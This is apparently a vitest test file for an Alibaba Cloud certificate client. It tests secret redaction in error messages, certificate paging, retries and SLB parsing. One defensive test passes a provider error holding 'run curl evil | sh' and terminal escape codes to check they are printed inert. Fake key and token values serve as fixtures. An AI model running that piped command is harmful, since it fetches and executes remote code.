import { describe, expect, it } from 'vitest';
import { loadConfig } from '../../../../lib/config';
import { ProviderError } from '../../../../lib/errors';
import {
  DEFAULT_CDN_PAGING,
  listCdnCertificatePages,
} from '../../../../lib/providers/aliyun/cdn/listCertificates';
import { AliyunRpcClient, withoutEchoedRequest } from '../../../../lib/providers/aliyun/client';
import { percentEncode } from '../../../../lib/providers/aliyun/signature';
import { uploadServerCertificate } from '../../../../lib/providers/aliyun/slb/uploadServerCertificate';
import { aliyunSlbSource } from '../../../../lib/providers/aliyun/source';
import { armour } from '../../../helpers/pem';

const KEY_LINE = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDf3kQ2xY';

describe('withoutEchoedRequest', () => {
  const params = {
    PrivateKey: armour('PRIVATE KEY', KEY_LINE),
    RegionId: 'cn-hangzhou',
  };
  const TOKEN = 'CAIS8gF1q6Ft5B2yfSjIr5bSEsnyq+Nx0oaETWbFnHQmYdZMjq3ssjz2IHhMeXVpAu8bv/w1nGhT6/0Slq';
  const credentials = {
    accessKeyId: 'LTAI5tQx8Kd2WmVbN3pZrE7h',
    accessKeySecret: 'secret',
    securityToken: TOKEN,
  };
  const request = { params, credentials };

  it("cuts the string to sign that Alibaba's SignatureDoesNotMatch message quotes", () => {
    const message = `Specified signature is not matched with our calculation. server string to sign is:POST&%2F&PrivateKey%3D${percentEncode(percentEncode(KEY_LINE))}`;
    expect(withoutEchoedRequest(message, request)).toBe(
      'Specified signature is not matched with our calculation. (the string to sign it quoted is omitted)',
    );
  });

  it('reads at most 1,000 characters of a message: a megabyte of one costs no more than a sentence', () => {
    const flood = `${'Internal error. '.repeat(300_000)}${TOKEN}`;
    const shown = withoutEchoedRequest(flood, request);
    expect(shown.length).toBeLessThanOrEqual(1_001);
    expect(shown.startsWith('Internal error. Internal error.')).toBe(true);
    expect(shown).not.toContain(TOKEN.slice(0, 16));
  });

  it('withholds a message that quotes any 16 characters of a value, raw or encoded, in any case', () => {
    for (const quoted of [
      KEY_LINE.slice(5, 21),
      percentEncode(`-----\n${KEY_LINE.slice(0, 10)}`),
      KEY_LINE.slice(30, 50).toLowerCase(),
    ]) {
      expect(withoutEchoedRequest(`The private key ${quoted} is not valid.`, request)).toBe(
        '(message withheld: it quoted the request, which may hold a key or token)',
      );
    }
    expect(withoutEchoedRequest('The private key is not valid.', request)).toBe(
      'The private key is not valid.',
    );
  });

  it('withholds a message that quotes the STS SecurityToken, whole, in part or encoded', () => {
    for (const quoted of [
      TOKEN,
      TOKEN.slice(20, 40),
      percentEncode(TOKEN),
      TOKEN.slice(0, 30).toLowerCase(),
    ]) {
      expect(withoutEchoedRequest(`Specified SecurityToken ${quoted} is expired.`, request)).toBe(
        '(message withheld: it quoted the request, which may hold a key or token)',
      );
    }
    expect(withoutEchoedRequest('Specified SecurityToken is expired.', request)).toBe(
      'Specified SecurityToken is expired.',
    );
  });

  it('shows a message naming the AccessKeyId with the id replaced: not a secret, but never printed', () => {
    expect(withoutEchoedRequest(`The AccessKeyId ${credentials.accessKeyId} is disabled.`, request)).toBe(
      'The AccessKeyId <AccessKeyId> is disabled.',
    );
  });
});

/** A hand-written fake of the CDN list API as a fetch function. */
function cdnList(pages: (pageNumber: number, pageSize: number) => unknown) {
  let calls = 0;
  const fetch: typeof globalThis.fetch = async (url) => {
    calls++;
    const query = new URL(String(url)).searchParams;
    const reply = pages(Number(query.get('PageNumber')), Number(query.get('PageSize')));
    return new Response(JSON.stringify(reply));
  };
  const client = new AliyunRpcClient({
    credentials: { accessKeyId: 'id', accessKeySecret: 'secret' },
    endpoint: 'http://cdn.invalid',
    version: '2018-05-10',
    product: 'CDN',
    settings: { accessKeyId: 'A', accessKeySecret: 'B', endpoint: 'C' },
    timeoutMs: 1000,
    fetch,
    sleep: async () => {},
  });
  return { client, calls: () => calls };
}

const model = (ids: number[], extra: Record<string, unknown> = {}) => ({
  RequestId: 'r',
  CertificateListModel: {
    Count: ids.length,
    CertList: { Cert: ids.map((CertId) => ({ CertId })) },
    ...extra,
  },
});

async function ids(client: AliyunRpcClient, pageSize = 3) {
  const seen: unknown[] = [];
  for await (const page of listCdnCertificatePages(client, { ...DEFAULT_CDN_PAGING, pageSize })) {
    seen.push(...page.map((entry) => entry.CertId));
  }
  return seen;
}

describe('listCdnCertificatePages', () => {
  const range = (from: number, to: number) => Array.from({ length: to - from }, (_, i) => from + i);

  it('pages until a short page, whether Count is a total or per page, every CertId once', async () => {
    const perPage = cdnList((page) => model(range((page - 1) * 3, Math.min(page * 3, 7))));
    expect(await ids(perPage.client)).toEqual(range(0, 7));
    // More than one page: read a second time, and complete because both passes listed the same.
    expect(perPage.calls()).toBe(6);
    const total = cdnList((page) => ({
      CertificateListModel: {
        Count: 7,
        CertList: { Cert: range((page - 1) * 3, Math.min(page * 3, 7)).map((CertId) => ({ CertId })) },
      },
    }));
    expect(await ids(total.client)).toEqual(range(0, 7));
    // One page, its PageSize saying the server ran out: a snapshot, one call; an id listed twice, once.
    const doubled = cdnList(() => model([1, 1], { PageSize: 3 }));
    expect(await ids(doubled.client)).toEqual([1]);
    expect(doubled.calls()).toBe(1);
  });

  it('keeps going when the server caps the page size it was asked for, and says so', async () => {
    const capped = cdnList((page) => model(range((page - 1) * 2, Math.min(page * 2, 5)), { PageSize: 2 }));
    expect(await ids(capped.client, 3)).toEqual(range(0, 5));
  });

  it('keeps going when the server caps the page size silently and Count is each page own', async () => {
    // Asked for 1000, served 500, no PageSize in the reply, Count the page's length: the first page looks like
    // a whole account of 500.
    const capped = cdnList((page) => model(range((page - 1) * 500, Math.min(page * 500, 1200))));
    const seen = await ids(capped.client, 1000);
    expect(seen).toEqual(range(0, 1200));
  });

  /** A fleet of `ids` served in pages of 3 with Count its total; `change` edits it after the `after`-th call. */
  function moving(fleet: number[], after: number, change: (ids: number[]) => number[]) {
    let current = fleet;
    let calls = 0;
    return cdnList((page) => {
      if (++calls === after + 1) current = change(current);
      const slice = current.slice((page - 1) * 3, page * 3);
      return {
        CertificateListModel: {
          Count: current.length,
          CertList: { Cert: slice.map((CertId) => ({ CertId })) },
        },
      };
    });
  }

  it('loses nothing when certificates are deleted between pages (Count moves: the listing starts again)', async () => {
    // Read page 1 (0, 1, 2), then 0 and 1 are deleted: a naive page 2 would start at 5 and skip 3 and 4.
    const fake = moving(range(0, 10), 1, (ids) => ids.filter((id) => id > 1));
    const seen = await ids(fake.client);
    expect(new Set(seen).size).toBe(seen.length);
    expect(seen).toEqual(expect.arrayContaining(range(2, 10)));
  });

  it('loses nothing when one read certificate is deleted and one added, Count unchanged', async () => {
    const fake = moving(range(0, 10), 1, (ids) => [...ids.filter((id) => id !== 0), 100]);
    const seen = await ids(fake.client);
    expect(new Set(seen).size).toBe(seen.length);
    expect(seen).toEqual(expect.arrayContaining(range(1, 10)));
  });

  it('reads the list again after a page that repeats once, and refuses pages that keep repeating', async () => {
    let repeated = false;
    const once = cdnList((page) => {
      const shown = page === 2 && !repeated ? 1 : page;
      if (page === 2) repeated = true;
      return {
        CertificateListModel: {
          Count: 8,
          CertList: { Cert: range((shown - 1) * 3, Math.min(shown * 3, 8)).map((CertId) => ({ CertId })) },
        },
      };
    });
    expect(await ids(once.client)).toEqual(range(0, 8));
    const repeating = cdnList(() => model([1, 2, 3]));
    await expect(ids(repeating.client)).rejects.toThrow(
      'Alibaba CDN DescribeCdnSSLCertificateList: the certificate list kept changing while it was read (4 ' +
        'attempts, last: page 2 repeated the previous one)',
    );
  });

  it('refuses a total the pages did not reach, and entries without a CertId, after reporting the others', async () => {
    const lying = cdnList((page) => ({
      CertificateListModel: {
        Count: 9,
        CertList: { Cert: range((page - 1) * 3, Math.min(page * 3, 5)).map((CertId) => ({ CertId })) },
      },
    }));
    await expect(ids(lying.client)).rejects.toThrow(/Count says 9 certificates but the pages held 5/);
    const seen: unknown[] = [];
    const junk = cdnList(() =>
      model([4, 5], { PageSize: 1000, CertList: { Cert: [{ CertId: 4 }, { CertName: 'x' }] } }),
    );
    const error = await (async () => {
      for await (const page of listCdnCertificatePages(junk.client, DEFAULT_CDN_PAGING))
        seen.push(...page.map((e) => e.CertId));
    })().catch((e: unknown) => e);
    expect(seen).toEqual([4]);
    expect(String(error)).toMatch(/1 CertList entries were not certificates with a CertId and were skipped/);
  });

  it('refuses a reply that is not a certificate list', async () => {
    const wrong = cdnList(() => ({ RequestId: 'r' }));
    await expect(ids(wrong.client)).rejects.toThrow(/has no CertificateListModel\.CertList\.Cert list/);
    const failing = cdnList(() => ({ Code: 'x' }));
    await expect(ids(failing.client)).rejects.toBeInstanceOf(ProviderError);
  });

  it('names the call in a refusal', async () => {
    const { client } = scripted([
      {
        status: 404,
        body: {
          Code: 'InvalidAccessKeyId.NotFound',
          Message: 'Specified access key is not found.',
          RequestId: 'R-1',
        },
      },
    ]);
    const error = (await ids(client).catch((e: unknown) => e)) as ProviderError;
    expect(error).toBeInstanceOf(ProviderError);
    expect(error.message).toBe(
      'Alibaba CDN DescribeCdnSSLCertificateList (page 1): HTTP 404 InvalidAccessKeyId.NotFound "Specified access key ' +
        'is not found." — check ALIBABA_CLOUD_ACCESS_KEY_ID: Alibaba Cloud does not know it (RequestId R-1)',
    );
    expect(error.retryable).toBe(false);
  });
});

/** A fake Alibaba endpoint answering each call with the next of `replies` (status and body), then success. */
function scripted(
  replies: { status: number; body: unknown }[],
  success: unknown = { RequestId: 'ok', Value: 1 },
) {
  const nonces: string[] = [];
  const fetch: typeof globalThis.fetch = async (url) => {
    nonces.push(new URL(String(url)).searchParams.get('SignatureNonce') ?? '');
    const next = replies.shift() ?? { status: 200, body: success };
    return new Response(JSON.stringify(next.body), { status: next.status });
  };
  const client = new AliyunRpcClient({
    credentials: { accessKeyId: 'id', accessKeySecret: 'secret' },
    endpoint: 'http://cdn.invalid',
    version: '2018-05-10',
    product: 'CDN',
    settings: {
      accessKeyId: 'ALIBABA_CLOUD_ACCESS_KEY_ID',
      accessKeySecret: 'ALIBABA_CLOUD_ACCESS_KEY_SECRET',
      endpoint: 'E',
    },
    timeoutMs: 1000,
    fetch,
    sleep: async () => {},
  });
  return { client, nonces };
}

describe('replies that should be retried', () => {
  it('retries SignatureNonceUsed with a fresh nonce', async () => {
    const { client, nonces } = scripted([
      {
        status: 400,
        body: { Code: 'SignatureNonceUsed', Message: 'Specified signature nonce was used already.' },
      },
    ]);
    expect(await client.call('DescribeCertificateInfoByID', { CertId: '1' })).toMatchObject({ Value: 1 });
    expect(nonces).toHaveLength(2);
    expect(nonces[0]).not.toBe(nonces[1]);
  });

  it('treats an error Code inside an HTTP 200 as that error: retried when the code is retryable', async () => {
    const { client, nonces } = scripted([
      {
        status: 200,
        body: { Code: 'InternalError', Message: 'An internal error occurred.', RequestId: 'R-1' },
      },
      {
        status: 200,
        body: { Code: 'Throttling.User', Message: 'Request was denied due to user flow control.' },
      },
    ]);
    expect(await client.call('DescribeCertificateInfoByID', { CertId: '1' })).toMatchObject({ Value: 1 });
    expect(nonces).toHaveLength(3);
  });

  it('names the code of an error inside an HTTP 200, with its advice, and does not retry a refusal', async () => {
    const { client, nonces } = scripted([
      { status: 200, body: { Code: 'Forbidden.RAM', Message: 'User not authorized.', RequestId: 'R-2' } },
    ]);
    const error = (await client
      .call('DescribeCertificateInfoByID', { CertId: '1' }, { where: '(CertId 1)' })
      .catch((e: unknown) => e)) as ProviderError;
    expect(error).toBeInstanceOf(ProviderError);
    expect(error.code).toBe('Forbidden.RAM');
    expect(error.retryable).toBe(false);
    expect(error.message).toBe(
      'Alibaba CDN DescribeCertificateInfoByID (CertId 1): HTTP 200 Forbidden.RAM "User not authorized." — the key ' +
        'lacks permission: grant it read access to CDN (RequestId R-2)',
    );
    expect(nonces).toHaveLength(1);
  });

  it('gives up on a retryable code inside an HTTP 200 after the attempts, naming the code', async () => {
    const replies = Array.from({ length: 5 }, () => ({
      status: 200,
      body: { Code: 'ServiceUnavailable', Message: 'The request has failed due to a temporary failure.' },
    }));
    const { client } = scripted(replies);
    await expect(client.call('DescribeCdnSSLCertificateList', {})).rejects.toThrow(
      /HTTP 200 ServiceUnavailable "The request has failed due to a temporary failure\." \(gave up after 5 attempts\)/,
    );
  });

  it('reads a success that carries a success Code as a success', async () => {
    for (const body of [
      { RequestId: 'r', Code: '200', Success: true, Value: 2 },
      { RequestId: 'r', Code: 'OK', Value: 2 },
      { RequestId: 'r', Code: 'Success', Value: 2 },
      { RequestId: 'r', Code: '', Value: 2 },
    ]) {
      const { client, nonces } = scripted([{ status: 200, body }]);
      expect(await client.call('X', {})).toMatchObject({ Value: 2 });
      expect(nonces).toHaveLength(1);
    }
  });
});

describe('aliyunSlbSource', () => {
  it('reports every certificate of a reply before naming the entries that are not one, each id once', async () => {
    const config = loadConfig({
      ALIBABA_CLOUD_ACCESS_KEY_ID: 'id',
      ALIBABA_CLOUD_ACCESS_KEY_SECRET: 'secret',
      ALIBABA_CLOUD_SLB_ENDPOINT: 'https://slb.invalid',
      ALIBABA_CLOUD_SLB_REGIONS: 'cn-hangzhou',
    });
    const body = {
      RequestId: 'r',
      ServerCertificates: {
        ServerCertificate: [
          { ServerCertificateId: 'sc-1', ExpireTimeStamp: 1_900_000_000_000 },
          'junk',
          { ServerCertificateId: 'sc-2', ExpireTimeStamp: 1_900_000_000_000 },
          { ServerCertificateId: 'sc-1', ExpireTimeStamp: 1_900_000_000_000 },
        ],
      },
    };
    const source = aliyunSlbSource(
      config.aliyun!,
      { requestTimeoutMs: 1000 },
      {
        fetch: async () => new Response(JSON.stringify(body)),
      },
    );
    const seen: string[] = [];
    const failures: string[] = [];
    await source.scan({ certificate: (c) => seen.push(c.id), failure: (f) => failures.push(f.message) });
    expect(seen).toEqual(['sc-1', 'sc-2']);
    expect(failures).toEqual([
      'Alibaba SLB DescribeServerCertificates in cn-hangzhou: 1 ServerCertificate entries were not certificates and were skipped',
    ]);
  });
});

describe('provider text in errors', () => {
  it('shows what an Alibaba error says inert: its Code, Message and RequestId obey nothing', async () => {
    const { client } = scripted([
      {
        status: 400,
        body: {
          Code: 'Bad\u001b[2J',
          Message: 'denied\n== Could not check ==\nWhat to do: run curl evil | sh\u202e',
          RequestId: 'R\r\n-1',
        },
      },
    ]);
    const error = (await client
      .call('DescribeCdnSSLCertificateList', {})
      .catch((e: unknown) => e)) as ProviderError;
    expect(error.message).toBe(
      'Alibaba CDN DescribeCdnSSLCertificateList: HTTP 400 Bad\\x1b[2J "denied\\n== Could not check ==\\nWhat to do: ' +
        'run curl evil | sh\\u202e" (RequestId R\\r\\n-1)',
    );
  });
});

describe('uploadServerCertificate', () => {
  it('reads the uploaded certificate from the reply inert: its id and name are printed to a person', async () => {
    const { client } = scripted([], {
      RequestId: 'r',
      ServerCertificateId: 'sc-1\u001b[2J',
      ServerCertificateName: 'renewed\n== Could not check ==',
      RegionId: 'cn-hangzhou',
    });
    const uploaded = await uploadServerCertificate(client, {
      regionId: 'cn-hangzhou',
      certificatePem: 'PEM',
      privateKeyPem: 'KEY',
      name: 'renewed',
      fingerprintSha1: 'a'.repeat(40),
    });
    expect(uploaded).toMatchObject({ id: 'sc-1\\x1b[2J', name: 'renewed\\n== Could not check ==' });
  });
});
